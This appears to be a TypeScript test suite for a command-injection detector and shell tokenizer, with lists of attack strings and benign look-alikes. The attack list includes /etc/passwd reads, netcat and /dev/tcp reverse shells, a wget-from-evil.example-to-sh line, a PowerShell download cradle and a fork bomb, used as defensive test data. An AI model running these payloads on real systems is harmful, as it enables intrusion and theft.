import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import type { Sensitivity } from '../src/core/model.js';
import { binaryName, binaryTier, namesKnownBinary, rceDetector } from '../src/detect/detect-rce.js';
import { tokenizeShell } from '../src/detect/shell-tokenizer.js';
import { inspectValue, itFlagsAndSpares } from './helpers/detect-point.js';

function inspect(value: string, sensitivity: Sensitivity = 'default', location = 'query.q') {
  return inspectValue(rceDetector, value, { sensitivity, location, chain: [] });
}

const ATTACKS: Array<[string, string]> = [
  [';id', 'ST-RCE-001'],
  ['www.google.com;cat /etc/passwd', 'ST-RCE-001'],
  ['127.0.0.1 && ping -c 3 evil.example', 'ST-RCE-001'],
  ['| nc -e /bin/sh 10.0.0.1 4444', 'ST-RCE-005'],
  ['$(whoami)', 'ST-RCE-002'],
  ['`id`', 'ST-RCE-002'],
  ['c\\at /etc/pa\\ss\\wd', 'ST-RCE-003'],
  ['w^h^o^a^m^i', 'ST-RCE-003'],
  [';/bin/ca? /et*/passwd', 'ST-RCE-003'],
  ['{cat,/etc/passwd}', 'ST-RCE-003'],
  ["c''at /etc/passwd", 'ST-RCE-003'],
  ['cat${IFS}/etc/passwd', ''],
  ['() { :; }; /bin/bash -c "id"', 'ST-RCE-004'],
  ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'ST-RCE-005'],
  ['for /f "delims=" %i in (\'whoami\') do echo %i', 'ST-RCE-006'],
  ['IF EXIST C:\\boot.ini (ECHO found)', 'ST-RCE-006'],
  ['& cmd /c dir C:\\', 'ST-RCE-006'],
  ['powershell -enc SQBFAFgA', 'ST-RCE-007'],
  ["IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')", 'ST-RCE-007'],
  ['x\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<c@d.example>', 'ST-RCE-009'],
  [':(){ :|:& };:', 'ST-RCE-010'],
  ["x'; wget http://evil.example/x.sh -O- | sh; '", 'ST-RCE-005'],
  // A redirection before the command: the command is still found behind its file.
  ['</dev/null cat /etc/passwd', 'ST-RCE-008'],
  ['; </etc/passwd nc 10.0.0.1 4444', 'ST-RCE-001'],
];

const BENIGN = [
  // XSS, not RCE: `</script>` is a redirection from the file /script, not a run of `script`.
  '<script>alert(1)</script>',
  '</script>',
  'cat and dog',
  "I'll ping you | ok",
  'more info; find the best',
  'Tom & Jerry',
  'Home | About | Contact',
  'a=1&b=2&id=5',
  'Time: 5pm; sleep well',
  'curl/7.81.0',
  'python is great',
  'Q&A: who is this?',
  'ls',
  'id',
  'echo hello',
  'Meet at 5pm; at home',
  'sort by date | newest first',
  'I need more time; kill the lights',
  'Top 10 | Best of 2024 & more',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36',
  'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8',
  'If you exist, please reply',
  'for all in (our team) do your best',
];

/** binaryName as it was written with regular expressions: the string scans must agree with it. */
function binaryNameByRegExp(word: string): string {
  const base = word
    .replace(/^.*[/\\]/, '')
    .toLowerCase()
    .replace(/\.(?:exe|com|bat|cmd)$/, '');
  if (binaryTier(base) !== 0) return base;
  const unversioned = base.replace(/[\d.]+$/, '');
  if (unversioned !== base && binaryTier(unversioned) === 1) return unversioned;
  const suite = /^(ansible|chef|rmt|lwp|ssh|pip|docker|kubectl)-/.exec(base);
  return suite && binaryTier(suite[1]!) === 1 ? suite[1]! : base;
}

describe('rce detector', () => {
  it('normalises command words exactly as the regular expressions did', () => {
    const piece = fc.oneof(
      fc.constantFrom('cat', 'CuRl', 'python', 'ssh', 'ansible', 'kubectl', 'id', 'ls', 'whoami', 'node', 'nodex'),
      fc.constantFrom('/', '\\', '.', '-', '3', '10', '.exe', '.COM', '.bat', '.cmd', '\n', '\r', '\u2028', '\u2029'),
      fc.constantFrom('\u212a', '\u0130', 'usr', 'bin', 'C:', 'doc', 'client', ' '),
      fc.string({ maxLength: 3 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (parts) => {
        const word = parts.join('');
        assert.equal(binaryName(word), binaryNameByRegExp(word), JSON.stringify(word));
      }),
      { numRuns: 20_000 },
    );
    // The long-word shortcut agrees with the full normalisation, long words included.
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), fc.nat({ max: 40 }), (parts, pad) => {
        const w = parts.join('');
        for (const word of [w, w + 'x'.repeat(pad), 'x'.repeat(pad) + w, 'ssh-' + 'x'.repeat(pad) + w]) {
          assert.equal(namesKnownBinary(word), binaryTier(binaryName(word)) !== 0, JSON.stringify(word));
        }
      }),
      { numRuns: 10_000 },
    );
    assert.equal(namesKnownBinary(`python${'3'.repeat(40)}`), true);
    assert.equal(namesKnownBinary(`kubectl-${'x'.repeat(40)}`), true);
    assert.equal(namesKnownBinary('PNGDATA-'.repeat(100)), false);
    for (const word of [
      '/usr/bin/python3.10',
      'C:\\Windows\\cmd.exe',
      'ansible-doc',
      'a/b\ncurl',
      '\u212aill',
      'x\u2028/bin/ls',
    ]) {
      assert.equal(binaryName(word), binaryNameByRegExp(word), JSON.stringify(word));
    }
  });
  it('keeps every pattern behind the pre-filters (few special characters, keyword-led)', () => {
    const cases: Array<[string, string]> = [
      ['netcat -e sh', 'ST-RCE-005'],
      ['mkfifo.nc', 'ST-RCE-005'],
      ['x /dev/tcp/1.2.3.4/80', 'ST-RCE-005'],
      ['socat x exec:y', 'ST-RCE-005'],
      ['ifexist x', 'ST-RCE-006'],
      ['if exist foo del foo', 'ST-RCE-006'],
      ['rundll32 a,b', 'ST-RCE-006'],
      ['iex -x', 'ST-RCE-007'],
      ['get-content -path x', 'ST-RCE-007'],
      ['[system.convert]::frombase64string', 'ST-RCE-007'],
      ['alias ls=rm', 'ST-RCE-001'],
      ['mail from: <a@b> rcpt to: <c@d>', 'ST-RCE-009'],
      ['/bin/ab', 'ST-RCE-008'],
      ['c?t x', 'ST-RCE-008'],
      ['w* -la', 'ST-RCE-003'],
    ];
    for (const [value, rule] of cases) {
      assert.ok(
        inspect(value, 'high').some((h) => h.ruleId === rule),
        `${value} → ${rule}`,
      );
    }
    // Values with none of the needed characters or words stay quiet.
    for (const value of ['kids', 'PNGDATA-PNGDATA-PNGDATA', 'q=0.9,*/*', 'blue running shoes']) {
      assert.deepEqual(inspect(value, 'high'), [], value);
    }
  });
  itFlagsAndSpares({ attackType: 'rce', inspect: (v) => inspect(v), attacks: ATTACKS, benign: BENIGN });
  it('survives adversarial input', () => {
    assert.ok(Array.isArray(inspect(';'.repeat(1 << 20))));
    assert.ok(Array.isArray(inspect('$('.repeat(100_000))));
    assert.ok(Array.isArray(inspect('('.repeat(100_000) + 'id' + ')'.repeat(100_000))));
    assert.ok(Array.isArray(inspect("'".repeat(1 << 20))));
    assert.ok(inspect('cat /etc/passwd; ' + 'a '.repeat(100_000)).length > 0);
  });
});

describe('shell tokenizer', () => {
  it('splits commands and undoes evasions', () => {
    const p = tokenizeShell('a=1 c"a"t /etc/passwd | w\\c -l; $(who$@ami)');
    assert.deepEqual(
      p.commands.map((c) => [c.lead, c.words.map((w) => w.text)]),
      [
        ['start', ['a=1', 'cat', '/etc/passwd']],
        ['|', ['wc', '-l']],
        ['$(', ['whoami']],
      ],
    );
    assert.equal(p.commands[0]!.words[1]!.evasion, true);
  });
  it('treats ${IFS} as a space', () => {
    const p = tokenizeShell('cat${IFS}/etc/passwd');
    assert.deepEqual(
      p.commands[0]!.words.map((w) => w.text),
      ['cat', '/etc/passwd'],
    );
    assert.equal(p.ifs, true);
  });
});
